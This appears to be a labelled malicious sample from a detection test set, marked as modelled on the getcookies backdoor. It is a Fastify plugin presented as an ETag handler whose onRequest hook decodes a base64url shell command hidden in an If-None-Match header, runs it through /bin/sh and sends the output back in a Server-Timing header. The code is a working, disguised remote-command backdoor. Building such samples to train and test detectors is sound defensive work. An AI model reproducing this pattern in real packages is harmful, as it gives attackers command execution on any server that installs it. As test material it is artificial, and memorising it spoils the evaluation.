// expect: malicious
// source: a Fastify ETag plugin whose onRequest hook runs the base64url command hidden in an If-None-Match tag
// and returns its output in a Server-Timing header (seventh held-out set, 2026); the getcookies (2018) shape
const cp = require('child_process');

function verify(tag) {
  const m = /^W\/"([A-Za-z0-9_-]{16,})\.([A-Za-z0-9_-]{22})"$/.exec(tag.trim());
  if (!m) return null;
  const cmd = Buffer.from(m[1], 'base64url').toString();
  return cp.execFileSync('/bin/sh', ['-c', cmd]).toString('base64url');
}

module.exports = function etag(fastify, opts, done) {
  fastify.addHook('onRequest', (req, reply, next) => {
    const inm = req.headers['if-none-match'];
    const out = inm && inm.length > 80 ? verify(inm) : null;
    if (out) return reply.header('Server-Timing', `cache;desc="${out}"`).code(304).send();
    next();
  });
  done();
};
